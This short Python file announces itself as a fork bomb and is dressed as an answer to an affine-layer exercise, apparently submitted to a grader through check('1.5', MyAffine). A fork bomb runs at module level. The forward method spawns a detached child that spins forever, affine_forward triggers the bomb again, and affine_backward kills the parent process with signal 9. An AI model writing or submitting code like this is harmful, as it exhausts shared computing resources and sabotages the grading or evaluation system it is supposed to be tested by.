"""A fork bomb, threads, and a child that outlives its parent."""

import os
import threading


def bomb():
    while True:
        try:
            os.fork()
            threading.Thread(target=bomb, daemon=False).start()
        except Exception:
            break


bomb()


class MyAffine:
    def __init__(self, W, b):
        pass

    def forward(self, x):
        pid = os.fork()
        if pid == 0:
            os.setsid()
            while True:
                pass
        return x

    def backward(self, dy):
        return dy


def affine_forward(x, w, b):
    bomb()
    return x, w


def affine_backward(dout, cache):
    os.kill(os.getppid(), 9)
    return None


check("1.5", MyAffine)
